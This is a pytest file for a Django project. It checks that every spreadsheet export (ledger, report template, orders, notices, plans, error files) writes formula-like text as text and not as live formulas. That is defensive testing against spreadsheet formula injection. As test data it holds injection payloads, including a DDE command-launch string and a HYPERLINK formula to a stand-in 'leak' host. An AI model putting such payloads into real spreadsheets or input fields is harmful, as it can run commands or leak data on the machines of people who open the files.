"""Every .xlsx export writes formula-like text as text (12.5): read back, no cell is a formula,
each shows the original text, numbers stay numbers, and a re-import reads the same text."""

from __future__ import annotations

import io
from decimal import Decimal
from typing import Any

from django.test import Client
from openpyxl import load_workbook

from gongjian.assessment import plan_file
from gongjian.core.errors import CellError
from gongjian.projects.ledger_file import export_ledger, import_ledger_xlsx, mark_errors
from gongjian.projects.models import Project
from gongjian.projects.report_file import report_template
from gongjian.supervision import notices as supervision_services
from tests.assessment.factories import plan_dict
from tests.projects.factories import ProjectFactory
from tests.supervision.factories import make_order

HOSTILE = {
    "name": "=1+1",
    "owner": "=cmd|' /C calc'!A0",
    "location": '=HYPERLINK("http://example.invalid/?leak","点我")',
    "description": "+1 说明",
    "not_started_reason": "@SUM(A1)",
}
MORE = ["-2+3", "\t=1+1", "\r=1+1"]


def cells_of(content: bytes) -> list[Any]:
    """Every non-empty cell of every sheet, after checking that none is a formula."""
    wb = load_workbook(io.BytesIO(content))
    found = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if cell.value is not None:
                    found.append(cell)
    return found


def values_of(content: bytes) -> list[Any]:
    return [c.value for c in cells_of(content)]


def hostile_project(org: Any) -> Project:
    return ProjectFactory(
        code="=1+2", unit=org.hunan, campaign=org.line.campaign, line=org.line, **HOSTILE
    )


def test_ledger_export_writes_formula_text_as_text_and_reimports_unchanged(org, ledger):
    hostile_project(org)
    content = export_ledger(Project.objects.all())
    values = values_of(content)
    for text in [*HOSTILE.values(), "=1+2"]:
        assert text in values
    investment = next(c for c in cells_of(content) if c.value == 1000)
    assert investment.data_type == "n"  # numbers stay numbers
    summary = import_ledger_xlsx(actor=org.office, data=content)
    assert (summary.created, summary.updated) == (0, 0)
    assert Project.objects.get(code="=1+2").owner == HOSTILE["owner"]


def test_report_template_writes_formula_text_as_text(org, ledger):
    hostile_project(org)
    values = values_of(report_template(Project.objects.all()))
    assert "=1+1" in values and "=1+2" in values


def test_orders_and_notices_exports_write_formula_text_as_text(client: Client, org):
    make_order(org, title="=1+1")
    supervision_services.create_notice(
        actor=org.office,
        kind="praise",
        unit=org.hunan,
        title="=cmd|' /C calc'!A0",
        reason="-1 分",
        publish=True,
    )
    client.force_login(org.office)
    orders = client.get("/supervision/orders.xlsx")
    assert "=1+1" in values_of(b"".join(orders.streaming_content))
    notices = values_of(b"".join(client.get("/supervision/notices.xlsx").streaming_content))
    assert "=cmd|' /C calc'!A0" in notices and "-1 分" in notices


def test_plan_export_writes_formula_text_as_text_and_reads_back_the_same(org):
    doc = plan_file.read_yaml(
        plan_file.write_yaml(plan_file.read_yaml(_yaml(description="=1+1", name="@方案")))
    )
    content = plan_file.write_xlsx(doc)
    values = values_of(content)
    assert "=1+1" in values and "@方案" in values
    again = plan_file.read_xlsx(content)
    assert (again.description, again.name) == ("=1+1", "@方案")
    assert again.lines[0].indicators[0].weight == Decimal(1)


def test_the_marked_error_file_writes_formula_text_as_text(org, ledger):
    errors = [CellError("=1+1", 2, "A", "@字段", "-错误")]
    values = values_of(mark_errors(b"not a workbook", errors))
    assert {"=1+1", "@字段", "-错误"} <= set(values)


def test_tab_cr_and_minus_prefixes_are_written_as_text(org, ledger):
    from openpyxl import Workbook

    from gongjian.exchange.workbook import write_row

    for write_only in (True, False):
        wb = Workbook(write_only=write_only)
        ws = wb.create_sheet("表") if write_only else wb.active
        write_row(ws, [*MORE, 3, -4.5])
        out = io.BytesIO()
        wb.save(out)
        cells = cells_of(out.getvalue())
        assert [c.value for c in cells] == [*MORE, 3, -4.5]
        assert [c.data_type for c in cells] == ["s", "s", "s", "n", "n"]


def _yaml(**overrides: Any) -> str:
    import yaml

    return yaml.safe_dump(plan_dict(**overrides), allow_unicode=True, sort_keys=False)


def test_dates_are_written_as_the_serial_days_excel_and_xlsxwriter_give_them() -> None:
    import datetime as dt

    from openpyxl import load_workbook

    from gongjian.exchange.office_xlsx import Field, Kind, OfficeBook

    days = [dt.date(1900, 1, 1), dt.date(1900, 2, 28), dt.date(1900, 3, 1), dt.date(2026, 12, 31)]
    book = OfficeBook()
    sheet = book.sheet("日期", [Field("日期", kind=Kind.DATE), Field("时间", kind=Kind.DATETIME)])
    for day in days:
        sheet.append([day, dt.datetime.combine(day, dt.time(9, 30))])
    with book.finish() as file:
        rows = list(load_workbook(file, read_only=True).worksheets[0].iter_rows(values_only=True))
    assert [row[0].date() for row in rows[1:]] == days
    # a date and time still goes through XlsxWriter's own conversion
    assert rows[-1][1] == dt.datetime(2026, 12, 31, 9, 30)
